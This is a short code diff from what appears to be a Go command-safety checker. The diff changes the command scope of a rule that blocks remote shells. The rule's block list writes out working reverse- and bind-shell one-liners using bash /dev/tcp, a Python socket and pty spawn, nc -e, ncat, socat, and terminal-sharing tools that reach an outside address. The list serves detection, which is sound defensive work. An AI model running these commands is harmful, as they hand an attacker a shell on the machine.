@@ -133,7 +133,7 @@ var rceRules = []*Rule{
 		What:     "gives a shell to whoever connects",
 		Safer:    "run the program the task needs directly; ask the user before exposing a terminal to the network",
 		Unknown:  noUnknownStory,
-		Commands: allCommands, // a shell joined to /dev/tcp, whatever its name
+		Commands: []string{"*"}, // a shell joined to /dev/tcp, whatever its name
 		exec:     checkRemoteShell,
 		Block:    []string{`bash -i >& /dev/tcp/203.0.113.7/4444 0>&1`, `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`, `exec 5<>/dev/tcp/203.0.113.7/80; sh <&5 >&5 2>&5`, `nc -lvnp 4444 -e /bin/bash`, `nc 10.0.0.5 9001 -e /bin/sh`, `ncat --sh-exec "bash -i" -l 8080`, `socat TCP-LISTEN:1337,reuseaddr,fork EXEC:/bin/bash,pty,stderr`, `socat TCP:203.0.113.7:4444 EXEC:sh`, `gotty -w bash`, `ttyd -W zsh`, `tmate`},
 		Allow:    []string{`nc -zv example.com 443`, `nc -l 8080 > received.txt`, `ncat -l 9000 --keep-open`, `socat TCP-LISTEN:8080,fork TCP:localhost:3000`, `socat - TCP:example.com:80`, `gotty top`, `tmate -V`, `python3 -c 'import socket; s=socket.create_connection(("example.com",80)); print(s.recv(10))'`, `exec 3<>/dev/tcp/localhost/80; printf 'GET / HTTP/1.0\r\n\r\n' >&3; cat <&3`},
